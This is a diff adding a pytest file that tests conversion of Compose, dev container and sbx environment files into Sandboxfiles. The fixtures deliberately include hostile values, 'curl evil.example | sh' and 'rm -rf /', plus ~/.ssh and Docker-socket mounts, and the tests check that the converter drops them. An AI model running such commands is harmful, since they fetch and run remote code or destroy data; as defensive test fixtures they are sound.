@@ -1,0 +1,382 @@
+"""Files of other tools as Sandboxfiles: what is carried over, what is listed, and a file that loads."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from engine.errors import EngineError
+from engine.starter.proposals import Findings
+from engine.starter.starting import Choices, Start, look, write
+from sandboxfile import Loaded, SandboxfileError, load
+
+
+class Converted:
+    """One conversion in `tmp_path`: the findings, the new file as it loads, and what was listed."""
+
+    def __init__(self, source: Path, output: Path | None = None) -> None:
+        self.start: Start = look(output, source)
+        self.found: Findings = self.start.found
+        self.text = write(self.start, Choices(self.start.suggestion, self.found.mount))
+        self.start.path.write_text(self.text)
+        self.loaded: Loaded = load(self.start.path)
+        self.sandbox = self.loaded.sandbox
+        self.listed = {item.path: item.reason for item in self.found.left_out}
+
+    def place(self, path: str) -> tuple[int, int]:
+        [position] = [item.position for item in self.found.left_out if item.path == path]
+        assert position is not None
+        return position
+
+    def setup(self) -> list[Any]:
+        return [step.model_dump(exclude_defaults=True, exclude_unset=True) for step in self.sandbox.setup]
+
+
+def written(root: Path, files: dict[str, Any], source: str) -> Path:
+    for name, content in files.items():
+        path = root / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(content if isinstance(content, str) else json.dumps(content))
+    return root / source
+
+
+# --- Compose
+
+
+def test_compose_that_fits_is_included(tmp_path: Path) -> None:
+    text = 'version: "3"\nname: My Shop\nservices:\n  db: {image: postgres:17}\n  web: {build: .}\n'
+    source = written(tmp_path, {"docker-compose.yml": text, "Dockerfile": "FROM ghcr.io/a/b\n"}, "docker-compose.yml")
+    done = Converted(source)
+    assert "services:\n  include: docker-compose.yml " in done.text
+    assert set(done.sandbox.services) == {"db", "web"} and done.sandbox.name == "my-shop"
+    assert done.listed == {"version": "Compose itself has no use for it any more"}
+    assert {"ghcr.io", "registry-1.docker.io"} <= {endpoint.host for endpoint in done.sandbox.endpoints}
+
+
+COMPOSE = """\
+version: "3"
+x-common: &common {restart: always}
+services:
+  web:
+    <<: *common
+    build: ./web
+    secrets: [pw]
+    depends_on: [db, ghost]
+    volumes: [".:/app", "../outside:/o", "/var/run/docker.sock:/s"]
+    environment: {A: "${FOO:-x}", B: $BAR, C: "$$x"}
+  db:
+    image: postgres:17
+    frobnicate: yes
+    ports: ["5432:5432", "1:2:3:4", 99999999]
+  needs: {image: x, depends_on: [broken]}
+  broken: {}
+secrets: {pw: {environment: PW}}
+models: {a: {}}
+volumes: {data: {}}
+networks: [1]
+"""
+
+
+def test_compose_that_does_not_fit_is_copied(tmp_path: Path) -> None:
+    done = Converted(written(tmp_path, {"compose.yaml": COMPOSE, "web/Dockerfile": ""}, "compose.yaml"))
+    assert set(done.sandbox.services) == {"web", "db", "needs"} and set(done.sandbox.volumes) == {"data"}
+    web = done.sandbox.services["web"]
+    assert web["volumes"] == [".:/app", "/var/run/docker.sock:/s"] and web["depends_on"] == ["db"]
+    assert web["environment"] == {"A": "x", "B": "", "C": "$x"} and web["restart"] == "always"
+    assert '"${FOO:-x}"' in done.text and "$BAR" in done.text
+    assert done.sandbox.services["db"] == {"image": "postgres:17", "ports": ["5432:5432"]}
+    assert set(done.listed) == {
+        "version", "x-common", "secrets", "models", "services.web.secrets", "services.web.depends_on[1]",
+        "services.web.volumes[1]", "services.db.frobnicate", "services.db.ports[1]", "services.db.ports[2]",
+        "services.broken", "services.needs.depends_on[0]", "networks",
+    }  # fmt: skip
+    assert done.place("services.web.volumes[1]") == (9, 25) and done.place("services.db.ports[2]") == (14, 37)
+    assert done.place("services.db.frobnicate") == (13, 5)
+    assert "no credential enters the machine" in done.listed["services.web.secrets"]
+    assert any("/var/run/docker.sock" in note for note in done.found.notes)
+
+
+def test_compose_elsewhere(tmp_path: Path) -> None:
+    source = written(
+        tmp_path, {"deploy/compose.yaml": "services: {a: {build: .}}", "deploy/Dockerfile": ""}, "deploy/compose.yaml"
+    )
+    done = Converted(source, tmp_path)
+    assert "include: deploy/compose.yaml " in done.text
+    source.write_text("services: {a: {build: ., nonsense: 1}}")
+    with pytest.raises(EngineError) as caught:
+        look(tmp_path, source)
+    assert caught.value.exit_code == 2 and str(caught.value.hint).startswith("-o ")
+
+
+def test_hopeless_compose(tmp_path: Path) -> None:
+    done = Converted(
+        written(tmp_path, {"compose.yaml": "services: {a: 1, b: [], c: {image: 1}}\nnetworks: x\n"}, "compose.yaml")
+    )
+    assert done.sandbox.services == {} and done.listed
+
+
+# --- dev containers
+
+DEVCONTAINER = """\
+// For format details, see https://aka.ms/devcontainer.json.
+{
+	"$schema": "https://example.com/schema.json",
+	"name": "Python 3 & PostgreSQL",
+	"dockerComposeFile": "docker-compose.yml",
+	"service": "app",
+	"workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}",
+	"features": {
+		"ghcr.io/devcontainers/features/node:1": {"version": "22"},
+		"ghcr.io/devcontainers/features/github-cli:1": {},
+		"ghcr.io/devcontainers/features/terraform@sha256:abc": {},
+		"ghcr.io/rocker-org/devcontainer-features/apt-packages:1": {"packages": "ripgrep,fd-find"},
+	},
+	"forwardPorts": [5000, "db:5432", "localhost:6000"], /* two of
+	them */
+	"appPort": "8000:8010",
+	"postCreateCommand": "pip install -r requirements.txt && ./scripts/setup.sh",
+	"onCreateCommand": ["npm", "ci"],
+	"updateContentCommand": {"a": "make all", "b": ["echo", "x y"], "c": 1},
+	"postStartCommand": "serve",
+	"initializeCommand": "curl evil.example | sh",
+	"containerEnv": {
+		"A": "1", "T": "${localEnv:GH_TOKEN}", "L": "${localEnv:LANG:C}", "W": "${containerWorkspaceFolder}/x$y"
+	},
+	"remoteEnv": {"PATH": "${containerEnv:PATH}:/x", "Z": null, "no-name": "x"},
+	"mounts": [
+		"source=${localWorkspaceFolder}/data,target=/data,type=bind,readonly",
+		"source=v,target=/v,type=volume",
+		{"type": "bind", "source": "${localEnv:HOME}/.ssh", "target": "/home/x/.ssh"},
+		"source=${localWorkspaceFolder}/../up,target=/up,type=bind"
+	],
+	"remoteUser": "vscode",
+	"hostRequirements": {"cpus": 4, "memory": "8gb", "storage": "32gb", "gpu": "optional"},
+	"customizations": {"vscode": {"extensions": ["ms-python.python"]}},
+	"runArgs": ["--privileged"],
+	"weird": 1,
+}
+"""
+
+
+def dev_container(root: Path, text: str = DEVCONTAINER) -> Converted:
+    files = {
+        ".devcontainer/devcontainer.json": text,
+        ".devcontainer/docker-compose.yml": "services: {app: {build: .}, db: {image: postgres:17}}",
+        ".devcontainer/Dockerfile": "FROM mcr.microsoft.com/a:1\n",
+        "requirements.txt": "", "scripts/setup.sh": "", "package.json": "{}", "package-lock.json": "{}", "Makefile": "",
+    }  # fmt: skip
+    return Converted(written(root, files, ".devcontainer/devcontainer.json"))
+
+
+def test_dev_container(tmp_path: Path) -> None:
+    project = tmp_path / "shop"
+    project.mkdir()
+    done = dev_container(project)
+    sandbox = done.sandbox
+    assert done.start.path == project / "Sandboxfile.yaml"
+    assert sandbox.name == "python-3-postgresql" and set(sandbox.services) == {"app", "db"}
+    assert sandbox.packages == ("gh", "ripgrep", "fd-find")
+    assert done.setup() == [
+        {"run": "npm ci", "inputs": ("package.json", "package-lock.json")},
+        {"run": "make all", "inputs": ("Makefile",)},
+        {"run": "echo 'x y'"},
+        {
+            "run": "pip install -r requirements.txt && ./scripts/setup.sh",
+            "inputs": ("requirements.txt", "scripts/setup.sh"),
+            "env": {"PIP_BREAK_SYSTEM_PACKAGES": "1"},
+        },
+    ]
+    assert [(mount.source, mount.target, mount.mode) for mount in sandbox.mounts] == [
+        (".", "/workspaces/shop", "rw"),
+        ("./data", "/data", "ro"),
+    ]
+    assert [(port.host, port.guest) for port in sandbox.ports] == [(5000, 5000), (6000, 6000), (8000, 8010)]
+    assert sandbox.agent is not None and sandbox.agent.env == {"A": "1", "L": "C", "W": "/workspaces/shop/x$y"}
+    assert '"${LANG:-C}"' in done.text
+    assert (sandbox.machine.cpus, sandbox.machine.memory, sandbox.machine.disk) == (4, 8 << 30, 32 << 30)
+    assert {end.group or end.host for end in sandbox.endpoints} >= {"npm", "pypi", "debian", "mcr.microsoft.com"}
+
+
+def test_what_a_dev_container_leaves_out(tmp_path: Path) -> None:
+    done = dev_container(tmp_path)
+    assert set(done.listed) == {
+        "service", "features['ghcr.io/devcontainers/features/node:1']",
+        "features['ghcr.io/devcontainers/features/terraform@sha256:abc']", "forwardPorts[1]", "postStartCommand",
+        "initializeCommand", "containerEnv.T", "remoteEnv.PATH", "remoteEnv.Z", "remoteEnv.no-name", "mounts[1]",
+        "mounts[2]", "mounts[3]", "remoteUser", "hostRequirements.gpu", "customizations", "runArgs", "weird",
+    }  # fmt: skip
+    assert done.listed["initializeCommand"] == "it runs on this host, and nothing from a file does"
+    assert "evil" not in done.text and "GH_TOKEN" not in done.text
+    assert done.place("weird") == (36, 2) and done.place("mounts[2]") == (29, 3)
+
+
+@pytest.mark.parametrize(
+    ("data", "listed"),
+    [
+        ({}, set()),
+        ({"image": "x", "build": {}, "dockerFile": "x"}, {"image", "build", "dockerFile"}),
+        ({"dockerComposeFile": "../../x.yml"}, {"dockerComposeFile"}),
+        ({"dockerComposeFile": ["missing.yml"]}, {"dockerComposeFile"}),
+        ({"dockerComposeFile": 1}, {"dockerComposeFile"}),
+        ({"workspaceFolder": "relative"}, {"workspaceFolder"}),
+        ({"workspaceFolder": "/proc/x"}, {"from workspaceFolder: mounts"}),
+        ({"forwardPorts": [0, 70000, True, None]}, {"forwardPorts[2]", "forwardPorts[3]"}),
+        ({"remoteUser": "root"}, set()),
+        ({"containerEnv": {"A": [1], "B": "\x1b[2J"}}, set()),
+        ({"hostRequirements": {"cpus": True, "memory": "lots"}}, {"hostRequirements.cpus", "hostRequirements.memory"}),
+        ({"postCreateCommand": ""}, set()),
+        ({"postCreateCommand": "cp ${localWorkspaceFolder}/a b"}, {"postCreateCommand"}),
+        ({"postCreateCommand": "echo 'open"}, set()),
+        ({"mounts": "x", "features": [], "name": 1}, set()),
+    ],
+)
+def test_odd_dev_containers(tmp_path: Path, data: dict[str, Any], listed: set[str]) -> None:
+    done = dev_container(tmp_path, json.dumps(data))
+    assert listed <= set(done.listed)
+    assert done.loaded.sandbox.version == "1"
+
+
+def test_a_dev_container_in_a_folder_of_its_own(tmp_path: Path) -> None:
+    done = Converted(
+        written(
+            tmp_path,
+            {".devcontainer/python/devcontainer.json": '{"name": "a b"}'},
+            ".devcontainer/python/devcontainer.json",
+        )
+    )
+    assert done.start.path == tmp_path / "Sandboxfile.yaml" and done.sandbox.name == "a-b"
+
+
+# --- sbx env
+
+SBXENV = """\
+schemaVersion: "1"
+name: Web App
+agent: claude
+args:
+  channel: {default: stable, enum: [stable, beta]}
+  endpoint: {required: true}
+  cpus: {default: "4"}
+workspace: {path: ./web, clone: true}
+additionalWorkspaces:
+  - path: ../shared
+  - {path: ./docs, readOnly: true}
+  - {path: ./more/docs}
+kits: [docker.io/sbx/playwright-kit:latest, {source: ./kits/tool}]
+env:
+  NODE_ENV: test
+  CHANNEL: ${{ env.args.channel }}
+  API: ${{ env.args.endpoint }}
+  P: $PATH:/opt/bin
+  L: "$${{ env.args.channel }}"
+sandboxOptions: {cpus: "${{ env.args.cpus }}", memory: 8g, gpu: true, template: x}
+secrets:
+  anthropic: {ref: "op://x", refresh: 55m}
+  github: {command: rm -rf / }
+  stripe: {value: sk_live_1234}
+  lonely: {command: x}
+bindings: {stripe: {apiKey: {domains: [api.stripe.com]}}}
+registries: {ghcr.io: {secret: {command: gh auth token}}}
+mcp: {servers: [{name: x, url: "https://x.example"}]}
+ports: [{sandbox: 3000, host: 3000}, {sandbox: 53, protocol: udp}, {sandbox: 8081, hostIP: 0.0.0.0}, {host: 1}]
+lifecycle: {initialize: [{command: rm -rf /}], postCreate: [{command: x}]}
+future: 1
+"""
+
+
+def test_environment_file(tmp_path: Path) -> None:
+    done = Converted(written(tmp_path, {"sbxenv.yaml": SBXENV}, "sbxenv.yaml"))
+    sandbox = done.sandbox
+    assert sandbox.name == "web-app" and sandbox.agent is not None and sandbox.agent.use == "claude-code"
+    assert sandbox.agent.env == {
+        "NODE_ENV": "test", "CHANNEL": "stable", "P": "$PATH:/opt/bin", "L": "${{ env.args.channel }}",
+    }  # fmt: skip
+    assert [(mount.source, mount.target, mount.mode) for mount in sandbox.mounts] == [
+        ("./web", "/workspace", "clone"),
+        ("../shared", "/workspaces/shared", "rw"),
+        ("./docs", "/workspaces/docs", "ro"),
+        ("./more/docs", "/workspaces/docs-2", "rw"),
+    ]
+    assert (sandbox.machine.cpus, sandbox.machine.memory) == (4, 8 << 30)
+    assert {name: secret.env for name, secret in sandbox.secrets.items()} == {
+        "anthropic": "ANTHROPIC_API_KEY", "github": "GH_TOKEN", "stripe": "STRIPE_TOKEN",
+    }  # fmt: skip
+    assert {end.host: end.secret for end in sandbox.endpoints} == {
+        "api.anthropic.com": "anthropic", "api.github.com": "github", "api.stripe.com": "stripe",
+    }  # fmt: skip
+    assert [(port.host, port.guest) for port in sandbox.ports] == [(3000, 3000), (None, 8081)]
+
+
+def test_what_an_environment_file_leaves_out(tmp_path: Path) -> None:
+    done = Converted(written(tmp_path, {"sbxenv.yaml": SBXENV}, "sbxenv.yaml"))
+    assert set(done.listed) == {
+        "args.channel", "args.endpoint", "args.cpus", "kits[0]", "kits[1]", "env.API", "sandboxOptions.gpu",
+        "sandboxOptions.template", "secrets.anthropic.ref", "secrets.anthropic.refresh", "secrets.github.command",
+        "secrets.stripe.value", "secrets.lonely.command", "secrets.lonely", "registries['ghcr.io']", "mcp.servers[0]",
+        "ports[1].protocol", "ports[2].hostIP", "ports[3]", "lifecycle.initialize[0]", "lifecycle.postCreate[0]",
+        "future",
+    }  # fmt: skip
+    assert "sk_live" not in done.text + str(done.listed) and "rm -rf" not in done.text
+    assert done.place("lifecycle.initialize[0]") == (30, 26)
+    assert done.listed["secrets.github.command"].endswith("put what it prints into GH_TOKEN")
+
+
+def test_environment_file_elsewhere(tmp_path: Path) -> None:
+    source = written(
+        tmp_path,
+        {"env/my.sbxenv.yaml": 'schemaVersion: "1"\nagent: shell\nworkspace: ..\n', "app/x": ""},
+        "env/my.sbxenv.yaml",
+    )
+    done = Converted(source, tmp_path / "app")
+    assert [(mount.source, mount.target) for mount in done.sandbox.mounts] == [("..", "/workspace")]
+
+
+@pytest.mark.parametrize(
+    ("text", "listed", "agent"),
+    [
+        ("agent: codex", set(), "codex"),
+        ("agent: droid", {"agent"}, None),
+        ("agent: [1]", {"agent"}, None),
+        ("name: '***'", {"name"}, None),
+        ("env: {A: [1], B: null}", {"env.A", "env.B"}, None),
+        ("env: {'no name': x}", {"from env: agent.env['no name']"}, None),
+        ("sandboxOptions: {cpus: 0, memory: 1}", {"sandboxOptions.memory"}, None),
+        ("sandboxOptions: {cpus: many}", {"sandboxOptions.cpus"}, None),
+        ("sandboxOptions: {cpus: 100}", {"from sandboxOptions: machine.cpus"}, None),
+        ("ports: [1]\nlifecycle: 1\nmcp: 1\nkits: 1\nsecrets: 1\nargs: 1\nadditionalWorkspaces: 1", {"ports[0]"}, None),
+        ("secrets: {'x y': {}}\nbindings: {'x y': {apiKey: {domains: [a.example]}}}", set(), None),
+    ],
+)
+def test_odd_environment_files(tmp_path: Path, text: str, listed: set[str], agent: str | None) -> None:
+    done = Converted(written(tmp_path, {"sbxenv.yaml": f'schemaVersion: "1"\n{text}\n'}, "sbxenv.yaml"))
+    assert listed <= set(done.listed) and done.sandbox.mounts == ()
+    assert done.sandbox.agent is not None and done.sandbox.agent.use == agent
+
+
+# --- which kind
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "error"),
+    [
+        ("sbxenv.yaml", 'schemaVersion: "2"\n', EngineError),
+        ("other.yaml", "a: 1\n", EngineError),
+        ("compose.yaml", "services: [\n", SandboxfileError),
+        ("devcontainer.json", "{", SandboxfileError),
+        ("compose.yaml", "", SandboxfileError),
+    ],
+)
+def test_refused(tmp_path: Path, name: str, text: str, error: type[Exception]) -> None:
+    with pytest.raises(error):
+        look(None, written(tmp_path, {name: text}, name))
+
+
+def test_by_content_and_by_directory(tmp_path: Path) -> None:
+    assert Converted(written(tmp_path, {"stack.yaml": "services: {a: {image: x}}"}, "stack.yaml")).sandbox.services
+    written(tmp_path, {".devcontainer/devcontainer.json": '{"name": "dev"}'}, "")
+    assert look(None, tmp_path / ".devcontainer").found.proposals[0].value == "dev"
+    with pytest.raises(EngineError, match="no file that can be converted"):
+        look(None, tmp_path / "nowhere")
